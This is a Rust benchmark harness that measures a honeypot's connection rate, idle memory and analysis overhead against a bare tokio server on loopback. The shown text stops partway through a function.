//! connbench: measures honeytrap against a bare tokio server, in the same run, on
//! 127.0.0.1 only, and prints the ratios.
//!
//! ```text
//! cargo build --release --examples --bin honeytrap
//! cargo run --release --example connbench -- [--scenario rate|memory|all] ...
//! ```
//!
//! Scenarios (see `docs/benchmarks.md`):
//!
//! * `rate`: `--concurrency` client tasks each loop connect / send one line /
//!   shutdown(Write) / read until EOF / close, for `--warmup` then `--duration`
//!   seconds; completed connections in the timed window give conn/s. First against
//!   the bare server (this example re-executed with `--bare-server PORT`, a separate
//!   process like honeytrap), then against `honeytrap run -c <generated config>`.
//!   After honeytrap exits, its `events.jsonl` lines are counted against the
//!   connections the clients completed, and its `final counters` log line is checked
//!   for limit and drop counters.
//! * `memory`: `--idle-sessions` silent TCP connections are opened and held; the
//!   target's VmRSS growth divided by the number of sessions is the memory per idle
//!   session (honeytrap runs with `read_timeout = "1h"` so nothing times out).
//!
//! The load generator runs in its own tokio runtime (its own OS threads); both
//! targets are child processes, measured the same way. Every load loop is bounded
//! in time and in count. Clients are spread over source addresses 127.0.0.1..=N
//! (`--sources`) with IP_BIND_ADDRESS_NO_PORT so the ephemeral port space is per
//! source address (the client sends FIN first, so TIME_WAIT lands on the client
//! side; Linux reuses loopback TIME_WAIT ports with the default tcp_tw_reuse = 2).
//!
//! * `analysis`: the rate load against honeytrap twice in the same run, first with
//!   `[analysis] enabled = false`, then with every analyzer on except `selftest`
//!   (`--rounds` pairs); the ratio on/off is the cost of analysis to capture (the
//!   target is at least 0.90x). Clients send `--request decoders` by default here: an HTTP request with
//!   an NTLM Authenticate blob (base64), a percent-encoded query and a `wget` of a
//!   private address (refused by the downloader before any connect). Records are
//!   counted without the virtual attacks' events; the analysis counters come from
//!   the final counters line.
//!
//! * `classifiers` (issue 6, point 8): as `analysis`, but the "on" run also turns
//!   every classifier on with fixtures the harness writes itself (a YARA ruleset, a
//!   fuzzy signature list, a clamd it starts with its own database; see
//!   `anbench/classifiers.rs`), and the clients send `--request classifiers`: an
//!   exploit-like POST with a percent-encoded `wget`, GetPC shellcode and an
//!   embedded ELF. Target: on/off at least 0.90x.
//!
//! * `outputs` (issue 8, point 7): off/on pairs, "on" with the PostgreSQL, NATS and
//!   hpfeeds outputs (servers the harness starts on loopback; see
//!   `connbench/outputs.rs`); target on/off at least 0.90x, 0 records lost.
//!
//! Diagnostics: `--outputs jsonl|none` disables honeytrap's transcript files (and the
//! event log) to show what they cost; `--data-parent DIR` puts its data directory on
//! another file system (e.g. /dev/shm); `--honeytrap-first` swaps the order;
//! `--transcript-layout segments|per_attack` sets `output.transcripts.layout`.

use anyhow::{bail, Context as _, Result};
use clap::{Parser, ValueEnum};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Write as _};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::sync::mpsc;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

#[path = "anbench/classifiers.rs"]
mod classifiers;
#[path = "connbench/outputs.rs"]
mod outputs;

/// What each rate-scenario client sends by default.
const REQUEST: &[u8] = b"GET / HTTP/1.0\r\n\r\n";
/// Longest one client connection (connect to EOF) may take before it is given up.
const CONN_TIMEOUT: Duration = Duration::from_secs(5);
/// Idle connections opened (and kept) before the memory baseline is taken, so
/// one-time costs (allocator arenas, runtime slabs) are not charged to sessions.
const MEMORY_WARM: usize = 100;
/// Counters, besides every `limit_*` one, that mean something was refused or lost.
const LOSS_COUNTERS: &[&str] = &[
    "records_dropped",
    "output_errors",
    "quota_removed",
    "udp_datagrams_dropped",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Scenario {
    Rate,
    Memory,
    /// Rate with analysis off, then on, in the same run (not part of `all`).
    Analysis,
    /// As `analysis`, with every classifier on and the harness's fixtures.
    Classifiers,
    /// Rate with only the default outputs, then with PostgreSQL + NATS + hpfeeds on
    /// (issue 8, point 7; servers started by the harness).
    Outputs,
    All,
}

/// `[analysis]` of the generated config.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum AnalysisMode {
    /// Not set: honeytrap's defaults (analysis on, default analyzers).
    Default,
    /// `[analysis] enabled = false`.
    Off,
    /// Every analyzer enabled except `selftest`.
    On,
}

impl AnalysisMode {
    /// The `[analysis]` table; `set` (lines of `key = value`) goes into it for `On`.
    fn toml(self, set: &[String]) -> String {
        match self {
            AnalysisMode::Default => String::new(),
            AnalysisMode::Off => "[analysis]\nenabled = false\n\n".into(),
            AnalysisMode::On => format!(
                "[analysis]\nenabled = true\n{}\n[analyzer.selftest]\nenabled = false\n\n",
                set.iter().map(|l| format!("{l}\n")).collect::<String>()
            ),
        }
    }
}

/// What the rate clients send.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Request {
    /// `GET / HTTP/1.0` (18 bytes).
    Plain,
    /// A request that gives every decoder and the http downloader work (see
    /// [`decoder_request`]).
    Decoders,
    /// An exploit-like POST with shellcode and an embedded ELF (see
    /// `classifiers::bench_request`).
    Classifiers,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Outputs {
    /// events.jsonl and transcripts (the default config).
    All,
    /// events.jsonl only.
    Jsonl,
    /// Neither (sessions are still sealed and counted by the recorder).
    None,
}

/// `output.transcripts.layout` of the generated config.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Layout {
    /// Appended to segment files (honeytrap's default).
    Segments,
    /// One file per attack.
    #[value(name = "per_attack")]
    PerAttack,
}

impl Outputs {
    /// The `[output.*]` tables of the generated config (`layout`: None leaves
    /// honeytrap's default).
    fn toml(self, layout: Option<Layout>) -> String {
        let (jsonl, transcripts) = match self {
            Outputs::All => (true, true),
            Outputs::Jsonl => (true, false),
            Outputs::None => (false, false),
        };
        let layout = match layout {
            None => "",
            Some(Layout::Segments) => "layout = \"segments\"\n",
            Some(Layout::PerAttack) => "layout = \"per_attack\"\n",
        };
        format!(
            "[output.jsonl]\nenabled = {jsonl}\n\n[output.transcripts]\nenabled = {transcripts}\n{layout}# Far above what a run writes: no quota removal during the benchmark.\nquota_files = 100000000\n"
        )
    }
}

#[derive(Debug, Clone, Parser)]
#[command(
    about = "Connection-rate and idle-memory benchmark: honeytrap against a bare tokio server"
)]
struct Args {
    /// Measured seconds of the rate scenario (after the warm-up).
    #[arg(long, default_value_t = 10.0)]
    duration: f64,
    /// Warm-up seconds of the rate scenario (not counted).
    #[arg(long, default_value_t = 1.0)]
    warmup: f64,
    /// Concurrent client tasks of the rate scenario.
    #[arg(long, default_value_t = 50)]
    concurrency: usize,
    /// Idle sessions held open in the memory scenario.
    #[arg(long, default_value_t = 10_000)]
    idle_sessions: usize,
    /// TCP port on 127.0.0.1 both targets listen on (must be free).
    #[arg(long, default_value_t = 18080)]
    port: u16,
    /// The honeytrap binary.
    #[arg(long, default_value = "target/release/honeytrap")]
    honeytrap: PathBuf,
    /// Which scenario to run.
    #[arg(long, value_enum, default_value_t = Scenario::All)]
    scenario: Scenario,
    /// Client source addresses 127.0.0.1 ..= 127.0.0.N.
    #[arg(long, default_value_t = 8)]
    sources: u8,
    /// Worker threads of the client runtime (0: one per CPU).
    #[arg(long, default_value_t = 0)]
    client_threads: usize,
    /// Upper bound on connections started per rate run (a safety cap).
    #[arg(long, default_value_t = 2_000_000)]
    max_connections: u64,
    /// Directory in which honeytrap's temporary data directory is made (default: the
    /// system temp dir). Its file system matters, most with `per_attack` transcripts.
    #[arg(long)]
    data_parent: Option<PathBuf>,
    /// Which of honeytrap's outputs are enabled (diagnostic: `jsonl` and `none` show
    /// what the transcript files and the event log cost; the targets are for `all`).
    #[arg(long, value_enum, default_value_t = Outputs::All)]
    outputs: Outputs,
    /// `output.transcripts.layout` of the generated config (default: honeytrap's own,
    /// `segments`).
    #[arg(long, value_enum)]
    transcript_layout: Option<Layout>,
    /// `[analysis]` of the generated config (the `analysis` scenario sets it itself).
    #[arg(long, value_enum, default_value_t = AnalysisMode::Default)]
    analysis: AnalysisMode,
    /// What each client sends (default: `plain`; `decoders` in the `analysis` scenario).
    #[arg(long, value_enum)]
    request: Option<Request>,
    /// Off/on pairs of the `analysis` scenario.
    #[arg(long, default_value_t = 1)]
    rounds: usize,
    /// Run honeytrap before the bare server in the rate scenario.
    #[arg(long)]
    honeytrap_first: bool,
    /// `classifiers` scenario: do not start clamd (clamav stays off).
    #[arg(long)]
    no_clamd: bool,
    /// `classifiers` scenario: nice value of the clamd the harness starts (0: as
    /// Debian's clamav-daemon service runs it).
    #[arg(long, default_value_t = 0)]
    clamd_nice: i32,
    /// `outputs` scenario: the network outputs of its "on" runs (comma-separated).
    #[arg(long, value_delimiter = ',', default_value = "postgres,nats,hpfeeds")]
    with_outputs: Vec<String>,
    /// `outputs` scenario, diagnostic: `output.spool.fsync` of the "on" runs
    /// (`always`, `batch`, `never`; default: honeytrap's).
    #[arg(long)]
    spool_fsync: Option<String>,
    /// Diagnostic: `key = value` lines added to `[analysis]` of the "on" runs
    /// (for example `--analysis-set 'queue_size = 1'`).
    #[arg(long)]
    analysis_set: Vec<String>,
    /// Extra `[analyzer.*]` tables of the generated config (set by the
    /// `classifiers` scenario for its "on" runs).
    #[arg(skip)]
    extra_toml: String,
    /// Internal: run as the bare server on this port (used by the harness itself).
    #[arg(long, hide = true)]
    bare_server: Option<u16>,
}

fn main() -> Result<()> {
    let args = Args::parse();
    if let Some(port) = args.bare_server {
        return bare_server(port);
    }
    check_args(&args)?;
    let needed = args.idle_sessions + MEMORY_WARM + 1024;
    let nofile = raise_nofile(needed as u64);
    if nofile < needed as u64 && args.scenario != Scenario::Rate {
        eprintln!(
            "warning: open file limit {nofile} is below the {needed} the memory scenario needs"
        );
    }
    let mut rows = Vec::new();
    let data_parent = args.data_parent.clone().unwrap_or_else(std::env::temp_dir);
    println!("# connbench: {}", machine_line());
    println!(
        "# rate: concurrency={} warmup={}s duration={}s sources=127.0.0.1..{} client_threads={} port={}; memory: idle_sessions={} (+{} warm); open files={}; data in {} ({}); outputs={:?} transcript_layout={}",
        args.concurrency,
        args.warmup,
        args.duration,
        args.sources,
        client_threads(&args),
        args.port,
        args.idle_sessions,
        MEMORY_WARM,
        nofile,
        data_parent.display(),
        fs_type(&data_parent),
        args.outputs,
        match args.transcript_layout {
            None => "default",
            Some(Layout::Segments) => "segments",
            Some(Layout::PerAttack) => "per_attack",
        }
    );
    if matches!(args.scenario, Scenario::Rate | Scenario::All) {
        scenario_rate(&args, &mut rows)?;
    }
    if matches!(args.scenario, Scenario::Memory | Scenario::All) {
        scenario_memory(&args, &mut rows)?;
    }
    if args.scenario == Scenario::Analysis {
        scenario_analysis(&args, &mut rows)?;
    }
    if args.scenario == Scenario::Outputs {
        outputs::scenario_outputs(&args, &mut rows)?;
    }
    if args.scenario == Scenario::Classifiers {
        scenario_classifiers(&args, &mut rows)?;
    }
    print_table(&rows);
    Ok(())
}

fn check_args(a: &Args) -> Result<()> {
    if !(a.duration > 0.0 && a.duration <= 120.0) {
        bail!("--duration must be in (0, 120] seconds");
    }
    if !(0.0..=10.0).contains(&a.warmup) {
        bail!("--warmup must be in [0, 10] seconds");
    }
    if !(1..=2000).contains(&a.concurrency) {
        bail!("--concurrency must be in 1..=2000");
    }
    if !(1..=100_000).contains(&a.idle_sessions) {
        bail!("--idle-sessions must be in 1..=100000");
    }
    if a.sources == 0 || a.sources > 64 {
        bail!("--sources must be in 1..=64");
    }
    if !(1..=10).contains(&a.rounds) {
        bail!("--rounds must be in 1..=10");
    }
    if a.port == 0 {
        bail!("--port must not be 0");
    }
    if !a.honeytrap.is_file() {
        bail!(
            "honeytrap binary {} not found: cargo build --release --bin honeytrap",
            a.honeytrap.display()
        );
    }
    Ok(())
}

fn client_threads(a: &Args) -> usize {
    if a.client_threads > 0 {
        a.client_threads
    } else {
        std::thread::available_parallelism().map_or(2, |n| n.get())
    }
}

fn source_addr(i: usize, sources: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, 1 + (i % sources as usize) as u8))
}

// ---------------------------------------------------------------------------
// Output

struct Row {
    scenario: &'static str,
    target: &'static str,
    value: String,
    ratio: String,
    goal: String,
    notes: String,
}

fn row(scenario: &'static str, target: &'static str, value: String) -> Row {
    Row {
        scenario,
        target,
        value,
        ratio: String::new(),
        goal: String::new(),
        notes: String::new(),
    }
}

fn print_table(rows: &[Row]) {
    println!();
    println!(
        "{:<9} {:<10} {:<34} {:<7} {:<22} notes",
        "scenario", "target", "value", "ratio", "target"
    );
    for r in rows {
        println!(
            "{:<9} {:<10} {:<34} {:<7} {:<22} {}",
            r.scenario, r.target, r.value, r.ratio, r.goal, r.notes
        );
    }
}

fn machine_line() -> String {
    let read = |p: &str| {
        std::fs::read_to_string(p)
            .map(|s| s.split_whitespace().collect::<Vec<_>>().join("-"))
            .unwrap_or_else(|_| "?".into())
    };
    let nproc = std::thread::available_parallelism().map_or(0, |n| n.get());
    let tw = read("/proc/sys/net/ipv4/tcp_tw_reuse");
    if tw == "0" {
        eprintln!("warning: net.ipv4.tcp_tw_reuse = 0: clients may run out of ephemeral ports (TIME_WAIT)");
    }
    format!(
        "nproc={} kernel={} tcp_tw_reuse={} ip_local_port_range={} somaxconn={}",
        nproc,
        read("/proc/sys/kernel/osrelease"),
        tw,
        read("/proc/sys/net/ipv4/ip_local_port_range"),
        read("/proc/sys/net/core/somaxconn"),
    )
}

// ---------------------------------------------------------------------------
// Process helpers

/// Raise RLIMIT_NOFILE's soft limit to the hard limit (and the hard limit to
/// `needed` when allowed). Children inherit it. Returns the soft limit.
fn raise_nofile(needed: u64) -> u64 {
    use nix::sys::resource::{getrlimit, setrlimit, Resource};
    let Ok((soft, hard)) = getrlimit(Resource::RLIMIT_NOFILE) else {
        return 0;
    };
    if hard < needed && setrlimit(Resource::RLIMIT_NOFILE, needed, needed).is_ok() {
        return needed;
    }
    if soft < hard && setrlimit(Resource::RLIMIT_NOFILE, hard, hard).is_ok() {
        return hard;
    }
    soft
}

/// File system type of the mount holding `path` (longest matching mount point).
fn fs_type(path: &Path) -> String {
    let path = path.canonicalize().unwrap_or_else(|_| path.to_path_buf());
    let mounts = std::fs::read_to_string("/proc/mounts").unwrap_or_default();
    mounts
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            Some((*f.get(1)?, *f.get(2)?))
        })
        .filter(|(mp, _)| path.starts_with(mp))
        .max_by_key(|(mp, _)| mp.len())
        .map_or("?".into(), |(_, t)| t.to_string())
}

/// Resident set size of `pid` in KiB.
fn rss_kib(pid: u32) -> Result<u64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    s.lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .context("no VmRSS")
}

/// Open descriptors of `pid`.
fn fd_count(pid: u32) -> Result<usize> {
    Ok(std::fs::read_dir(format!("/proc/{pid}/fd"))?.count())
}

/// Clock ticks per second of /proc's CPU times.
fn clock_hz() -> u64 {
    unsafe { libc::sysconf(libc::_SC_CLK_TCK) }.max(1) as u64
}

/// The command name and CPU time (user + system) of a `/proc/.../stat` line.
fn stat_cpu(stat: &str) -> Option<(&str, Duration)> {
    let (open, close) = (stat.find('(')?, stat.rfind(')')?);
    let f: Vec<&str> = stat[close + 2..].split_whitespace().collect();
    // After the command name: state is field 3, utime 14, stime 15 (1-based).
    let ticks: u64 = f.get(11)?.parse::<u64>().ok()? + f.get(12)?.parse::<u64>().ok()?;
    Some((
        &stat[open + 1..close],
        Duration::from_nanos(ticks * 1_000_000_000 / clock_hz()),
    ))
}

/// CPU time (user + system, all threads) of `pid`.
fn cpu_time(pid: u32) -> Option<Duration> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    Some(stat_cpu(&s)?.1)
}

/// CPU time of `pid`'s threads, summed by thread name without a trailing `-N`
/// (the analysis workers `analysis-0`.. count as `analysis`).
fn thread_cpu(pid: u32) -> BTreeMap<String, Duration> {
    let mut out = BTreeMap::new();
    let Ok(dir) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return out;
    };
    for t in dir.flatten() {
        let Ok(s) = std::fs::read_to_string(t.path().join("stat")) else {
            continue;
        };
        let Some((name, cpu)) = stat_cpu(&s) else {
            continue;
        };
        let group = match name.rsplit_once('-') {
            Some((g, n)) if n.chars().all(|c| c.is_ascii_digit()) => g,
            _ => name,
        };
        *out.entry(group.to_string()).or_default() += cpu;
    }
    out
}

/// Busy CPU time of the whole machine (all CPUs, from /proc/stat).
fn system_busy() -> Option<Duration> {
    let (busy, _) = honeytrap::saturation::cpu_ticks()?;
    Some(Duration::from_nanos(busy * 1_000_000_000 / clock_hz()))
}

/// CPU accounting of one timed window: the target, this harness (the clients), and
/// everything else on the machine (other processes, kernel threads, steal).
#[derive(Clone)]
struct CpuSample {
    target: Option<Duration>,
    me: Option<Duration>,
    all: Option<Duration>,
    /// The target's threads by name (see [`thread_cpu`]).
    threads: BTreeMap<String, Duration>,
}

impl CpuSample {
    fn take(pid: u32) -> CpuSample {
        CpuSample {
            target: cpu_time(pid),
            me: cpu_time(std::process::id()),
            all: system_busy(),
            threads: thread_cpu(pid),
        }
    }
}

/// Remove terminal colour sequences from a log line.
fn strip_ansi(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\x1b' {
            for d in chars.by_ref() {
                if d.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// A server under test, running as a child process.
struct Target {
    name: &'static str,
    child: Child,
    log: Arc<Mutex<Vec<String>>>,
    /// Temp dir with honeytrap's config and data (removed on drop).
    dir: Option<tempfile::TempDir>,
}

/// What a target left behind when it stopped.
struct Stopped {
    status: ExitStatus,
    took: Duration,
    log: Vec<String>,
}

impl Target {
    /// Start `cmd`, collect its stderr, and wait until it logs a line with `ready`.
    fn start(
        name: &'static str,
        mut cmd: Command,
        port: u16,
        dir: Option<tempfile::TempDir>,
    ) -> Result<Target> {
        // A port somebody else holds would send our load elsewhere.
        std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, port))
            .with_context(|| format!("port 127.0.0.1:{port} is not free (use --port)"))?;
        cmd.stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .env("NO_COLOR", "1");
        // The child dies with the harness (whatever way the harness ends).
        unsafe {
            cmd.pre_exec(|| {
                libc::prctl(libc::PR_SET_PDEATHSIG, libc::SIGTERM);
                Ok(())
            });
        }
        let mut child = cmd.spawn().with_context(|| format!("starting {name}"))?;
        let stderr = child.stderr.take().expect("piped");
        let log = Arc::new(Mutex::new(Vec::new()));
        let (tx, rx) = mpsc::channel::<String>();
        {
            let log = Arc::clone(&log);
            std::thread::spawn(move || {
                let mut r = BufReader::new(stderr);
                let mut buf = Vec::new();
                loop {
                    buf.clear();
                    match r.read_until(b'\n', &mut buf) {
                        Ok(0) | Err(_) => break,
                        Ok(_) => {
                            let line = strip_ansi(String::from_utf8_lossy(&buf).trim_end());
                            let _ = tx.send(line.clone());
                            log.lock().unwrap().push(line);
                        }
                    }
                }
            });
        }
        let mut t = Target {
            name,
            child,
            log,
            dir,
        };
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let left = deadline.saturating_duration_since(Instant::now());
            match rx.recv_timeout(left) {
                Ok(line) if line.contains("cannot bind") || line.contains("ERROR") => {
                    bail!("{name} failed to start: {line}")
                }
                Ok(line) if line.contains(" ready") => break,
                Ok(_) => {}
                Err(_) => bail!(
                    "{name} did not become ready; log:\n{}",
                    t.log.lock().unwrap().join("\n")
                ),
            }
        }
        // It must be the one listening on the port.
        if std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, port)).is_ok() {
            bail!("{name} is ready but does not listen on 127.0.0.1:{port}");
        }
        if let Ok(Some(st)) = t.child.try_wait() {
            bail!("{name} exited at start: {st}");
        }
        Ok(t)
    }

    fn bare(port: u16) -> Result<Target> {
        let mut cmd = Command::new(std::env::current_exe()?);
        cmd.arg("--bare-server").arg(port.to_string());
        Target::start("bare", cmd, port, None)
    }

    fn honeytrap(args: &Args, config: &str) -> Result<Target> {
        let parent = args.data_parent.clone().unwrap_or_else(std::env::temp_dir);
        let dir = tempfile::Builder::new()
            .prefix("connbench-")
            .tempdir_in(&parent)
            .with_context(|| format!("temp dir in {}", parent.display()))?;
        let data = dir.path().join("data");
        let config = config.replace("@DATA@", &data.display().to_string());
        let cfg_path = dir.path().join("honeytrap.toml");
        std::fs::File::create(&cfg_path)?.write_all(config.as_bytes())?;
        let mut cmd = Command::new(&args.honeytrap);
        cmd.arg("run").arg("-c").arg(&cfg_path);
        Target::start("honeytrap", cmd, args.port, Some(dir))
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn data_dir(&self) -> Option<PathBuf> {
        self.dir.as_ref().map(|d| d.path().join("data"))
    }

    /// SIGTERM, then wait up to `wait` for the exit (SIGKILL after that).
    fn stop(&mut self, wait: Duration) -> Result<Stopped> {
        use nix::sys::signal::{kill, Signal};
        use nix::unistd::Pid;
        let pid = Pid::from_raw(self.child.id() as i32);
        let t0 = Instant::now();
        kill(pid, Signal::SIGTERM).context("SIGTERM")?;
        let status = loop {
            if let Some(st) = self.child.try_wait()? {
                break st;
            }
            if t0.elapsed() > wait {
                eprintln!("{}: no exit {wait:?} after SIGTERM: SIGKILL", self.name);
                let _ = kill(pid, Signal::SIGKILL);
                break self.child.wait()?;
            }
            std::thread::sleep(Duration::from_millis(20));
        };
        let took = t0.elapsed();
        // Give the reader thread a moment to take the last lines.
        std::thread::sleep(Duration::from_millis(100));
        for l in self.log.lock().unwrap().iter() {
            if l.contains("WARN")
                || l.contains("ERROR")
                || l.contains("shutting down")
                || l.contains("grace")
                || l.contains("counters")
            {
                eprintln!("  {}| {l}", self.name);
            }
        }
        Ok(Stopped {
            status,
            took,
            log: self.log.lock().unwrap().clone(),
        })
    }
}

impl Drop for Target {
    fn drop(&mut self) {
        if let Ok(None) = self.child.try_wait() {
            let _ = self.child.kill();
            let _ = self.child.wait();
        }
    }
}

/// Counters from honeytrap's `final counters:` log line.
fn final_counters(log: &[String]) -> Option<BTreeMap<String, u64>> {
    let line = log.iter().rev().find(|l| l.contains("final counters:"))?;
    let rest = &line[line.find("final counters:")? + "final counters:".len()..];
    Some(
        rest.split_whitespace()
            .filter_map(|kv| {
                let (k, v) = kv.split_once('=')?;
                Some((k.to_string(), v.trim_matches('"').parse().ok()?))
            })
            .collect(),
    )
}

/// The analysis counters, as `name=value` (analysis_skipped: attacks that went out
/// unanalyzed because the analysis queue was full).
fn analysis_counters(c: &BTreeMap<String, u64>) -> String {
    [
        "analysis_skipped",
        "analyzer_runs",
        "analyzer_failures",
        "analyzer_timeouts",
        "analyzer_skipped",
        "virtual_attacks",
        "findings",
        "downloads",
    ]
    .iter()
    .map(|k| format!("{k}={}", c.get(*k).copied().unwrap_or(0)))
    .collect::<Vec<_>>()
    .join(" ")
}

/// The limit and loss counters that are not zero, as `name=value`.
fn limit_drop_counters(c: &BTreeMap<String, u64>) -> Vec<String> {
    c.iter()
        .filter(|(k, v)| {
            (k.starts_with("limit_") || LOSS_COUNTERS.contains(&k.as_str())) && **v > 0
        })
        .map(|(k, v)| format!("{k}={v}"))
        .collect()
}

fn count_lines(path: &Path) -> Result<u64> {
    let mut r = BufReader::with_capacity(1 << 20, std::fs::File::open(path)?);
    let mut n = 0;
    let mut buf = Vec::new();
    while r.read_until(b'\n', &mut buf)? > 0 {
        n += 1;
        buf.clear();
    }
    Ok(n)
}

/// Events of real attacks and of virtual attacks (decoded copies) in `path`.
fn count_events(path: &Path) -> Result<(u64, u64)> {
    let mut r = BufReader::with_capacity(1 << 20, std::fs::File::open(path)?);
    let (mut real, mut virt) = (0, 0);
    let mut buf = Vec::new();
    while r.read_until(b'\n', &mut buf)? > 0 {
        if buf.windows(14).any(|w| w == b"\"virtual\":true") {
            virt += 1;
        } else {
            real += 1;
        }
        buf.clear();
    }
    Ok((real, virt))
}

fn count_files(dir: &Path) -> u64 {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return 0;
    };
    rd.flatten()
        .map(|e| match e.file_type() {
            Ok(t) if t.is_dir() => count_files(&e.path()),
            Ok(_) => 1,
            Err(_) => 0,
        })
        .sum()
}

/// The records check after honeytrap exited: events written against the sessions the
/// clients completed, plus the limit/drop counters of its final counters line.
fn records_row(
    label: &'static str,
    stopped: &Stopped,
    data: &Path,
    completed: u64,
    outputs: Outputs,
) -> Row {
    let transcripts = count_files(&data.join("transcripts"));
    let counters = final_counters(&stopped.log);
    // Without the event log, the recorder's `attacks` counter stands in for it.
    // Virtual attacks (decoded copies) have events of their own: not counted here.
    let (written, what) = match outputs {
        Outputs::None => (
            counters
                .as_ref()
                .and_then(|c| c.get("attacks").copied())
                .unwrap_or(0),
            "recorded (no outputs)",
        ),
        _ => (
            count_events(&data.join("events.jsonl")).map_or(0, |(real, _)| real),
            "written",
        ),
    };
    let lost = completed.saturating_sub(written);
    let mut r = row(
        label,
        "honeytrap",
        format!("{written} {what} / {completed} completed"),
    );
    r.ratio = format!("{lost} lost");
    r.goal = "0 lost".into();
    if lost > 0 {
        r.goal.push_str(": NOT met");
    } else {
        r.goal.push_str(": met");
    }
    let limits = match &counters {
        Some(c) => {
            let l = limit_drop_counters(c);
            format!(
                "accepted={} attacks={}; {}; limit/drop counters: {}",
                c.get("connections").copied().unwrap_or(0),
                c.get("attacks").copied().unwrap_or(0),
                analysis_counters(c),
                if l.is_empty() {
                    "none".to_string()
                } else {
                    l.join(" ")
                }
            )
        }
        None => "no final counters line in the log".into(),
    };
    r.notes = format!(
        "{limits}; transcripts={transcripts}; {}, {:.1}s after SIGTERM",
        stopped.status,
        stopped.took.as_secs_f64()
    );
    r
}

// ---------------------------------------------------------------------------
// The bare server (child process)

/// A tokio accept loop on 127.0.0.1:port (backlog 4096), one task per connection that
/// reads until EOF and closes. Runs until SIGTERM (default action).
fn bare_server(port: u16) -> Result<()> {
    raise_nofile(0);
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    rt.block_on(async move {
        let sock = socket2::Socket::new(
            socket2::Domain::IPV4,
            socket2::Type::STREAM,
            Some(socket2::Protocol::TCP),
        )?;
        sock.set_reuse_address(true)?;
        sock.set_nonblocking(true)?;
        sock.bind(&SocketAddr::from((Ipv4Addr::LOCALHOST, port)).into())?;
        sock.listen(4096)?;
        let listener = tokio::net::TcpListener::from_std(sock.into())?;
        eprintln!("bare server ready on 127.0.0.1:{port}");
        loop {
            match listener.accept().await {
                Ok((stream, _)) => {
                    tokio::spawn(async move {
                        // The buffer lives in read_some, not in this future, so an
                        // idle connection costs only the task and its registration.
                        while stream.readable().await.is_ok() {
                            match read_some(&stream) {
                                Ok(0) => break,
                                Ok(_) => {}
                                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                                Err(_) => break,
                            }
                        }
                    });
                }
                Err(_) => tokio::time::sleep(Duration::from_millis(10)).await,
            }
        }
    })
}

fn read_some(stream: &tokio::net::TcpStream) -> std::io::Result<usize> {
    let mut buf = [0u8; 4096];
    stream.try_read(&mut buf)
}

// ---------------------------------------------------------------------------
// Rate scenario

#[derive(Default)]
struct RateCounters {
    started: AtomicU64,
    warmup: AtomicU64,
    measured: AtomicU64,
    after: AtomicU64,
    err_connect: AtomicU64,
    err_io: AtomicU64,
    err_timeout: AtomicU64,
}

struct RateResult {
    rate: f64,
    completed_total: u64,
    measured: u64,
    errors: (u64, u64, u64),
    /// Target CPU time per connection in the timed window.
    cpu_per_conn: Option<Duration>,
    /// Client (harness) CPU time per connection in the timed window.
    client_cpu_per_conn: Option<Duration>,
    /// CPUs' worth of time used by everything else during the window.
    other_cpu: Option<f64>,
    /// Target CPU time per connection by thread name (threads that lived through
    /// the window).
    thread_cpu_per_conn: Vec<(String, Duration)>,
    /// Completed connections in each second of the window.
    per_second: Vec<u64>,
}

enum ConnError {
    Connect,
    Io,
}

async fn one_connection(src: IpAddr, dst: SocketAddr, request: &[u8]) -> Result<(), ConnError> {
    let sock = tokio::net::TcpSocket::new_v4().map_err(|_| ConnError::Connect)?;
    // Pick the port at connect() time, unique per 4-tuple, not at bind() time.
    let one: libc::c_int = 1;
    unsafe {
        libc::setsockopt(
            sock.as_raw_fd(),
            libc::IPPROTO_IP,
            libc::IP_BIND_ADDRESS_NO_PORT,
            &one as *const _ as *const libc::c_void,
            std::mem::size_of_val(&one) as libc::socklen_t,
        );
    }
    sock.bind(SocketAddr::new(src, 0))
        .map_err(|_| ConnError::Connect)?;
    let mut s = sock.connect(dst).await.map_err(|_| ConnError::Connect)?;
    s.write_all(request).await.map_err(|_| ConnError::Io)?;
    // FIN after the request: the server sees EOF and ends the session.
    s.shutdown().await.map_err(|_| ConnError::Io)?;
    let mut buf = [0u8; 1024];
    loop {
        match s.read(&mut buf).await {
            Ok(0) => return Ok(()),
            Ok(_) => {}
            Err(_) => return Err(ConnError::Io),
        }
    }
}

fn run_rate(args: &Args, target: &Target) -> Result<RateResult> {
    let dst = SocketAddr::from((Ipv4Addr::LOCALHOST, args.port));
    let request: Arc<[u8]> = match request_kind(args) {
        Request::Plain => REQUEST.into(),
        Request::Decoders => decoder_request().into(),
        Request::Classifiers => classifiers::bench_request().into(),
    };
    let rt = tokio::runtime::Builder::new_multi_thread()
